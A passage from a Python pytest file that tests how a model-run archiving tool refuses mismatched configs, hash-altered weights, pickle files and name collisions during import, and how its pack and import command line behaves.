        (b'{"format": 2, "config": {}}', "written by another version"),
        (b'{"format": 1, "config": {}}', "is no config of this program"),
        (
            b'{"format": 1, "config": {"network": "mlp"}, "image_shape": [32, 32]}',
            "decoder.2.bias is (784,), and should be (1024,)",
        ),
    ],
)
def test_a_config_that_is_none_or_does_not_fit_is_refused(
    trained: Run, runs: Path, config: bytes, sentence: str
) -> None:
    with pytest.raises(RunError) as caught:
        import_weights(weights_of(trained, 1), "weights.safetensors", io.BytesIO(config), "config.json")
    assert sentence in str(caught.value)
    assert not runs.exists() or list(runs.iterdir()) == []


def test_altered_weights_that_carry_a_hash_are_refused(trained: Run, runs: Path) -> None:
    content = bytearray(weights_of(trained, 1).getvalue())
    content[-2] ^= 1
    with pytest.raises(RunError, match="does not match the hash"):
        import_weights(io.BytesIO(bytes(content)), "0001.safetensors", config_of(trained), "config.json")


def test_a_name_taken_at_the_last_moment_stays_whose_it_is(
    trained: Run, runs: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two imports of one name at once: the second to arrive takes another."""
    check = archive._check_whole

    def slow_check(run: Run) -> None:
        check(run)
        monkeypatch.setattr(archive, "_check_whole", check)
        import_run(pack(trained), "x.zip")

    monkeypatch.setattr(archive, "_check_whole", slow_check)
    run, _ = import_run(pack(trained), "x.zip")
    assert run.name == "mine-2"
    assert sorted(path.name for path in runs.iterdir()) == ["mine", "mine-2"]
    assert run.command().split()[5].endswith("/mine-2")


def test_a_lock_that_came_in_does_not_hold(trained: Run, runs: Path, packed: dict[str, bytes]) -> None:
    run, _ = import_run(zipped(packed | {"mine/lock": b""}), "x.zip")
    with RunWriter.resume(run.path):
        pass


# The command line ------------------------------------------------------------------------------------------------


def test_a_run_goes_out_and_in_by_the_command_line(
    trained: Run, runs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "out.zip"
    assert main(["pack", str(trained.path), "-o", str(path)]) == 0
    assert capsys.readouterr().out == f"{path}\n"
    assert main(["import", str(path)]) == 0
    assert capsys.readouterr().out == f"{runs / 'mine'}\n"
    assert_same(Run(runs / "mine"), trained)
    weights, config = trained.path / "epochs" / "0001.safetensors", trained.path / "config.json"
    assert main(["import", str(weights), "--config", str(config)]) == 0
    assert_same_weights(Run(capsys.readouterr().out.strip()), trained)
    assert main(["pack", str(trained.path), "--without-state", "-o", str(tmp_path / "small.zip")]) == 0
    assert (tmp_path / "small.zip").stat().st_size < 0.7 * path.stat().st_size
    assert sorted(file.name for file in tmp_path.iterdir()) == ["out.zip", "runs", "small.zip"]


def test_the_command_line_refuses_in_a_sentence(runs: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "model.pt").write_bytes(b"\x80\x02.")
    assert main(["import", str(tmp_path / "model.pt")]) == 1
    said = capsys.readouterr().err
    assert said.startswith("python -m bvae import: model.pt is a pickle")
    assert archive.CONVERT in said
    assert main(["import", str(tmp_path / "model.safetensors")]) == 1
    assert "Add --config" in capsys.readouterr().err
    assert main(["import", str(tmp_path / "nowhere.zip")]) == 1
    assert "No such file" in capsys.readouterr().err
    assert main(["pack", "no-such-run", "-o", str(tmp_path / "x.zip")]) == 1
    assert [file.name for file in tmp_path.iterdir()] == ["model.pt"]
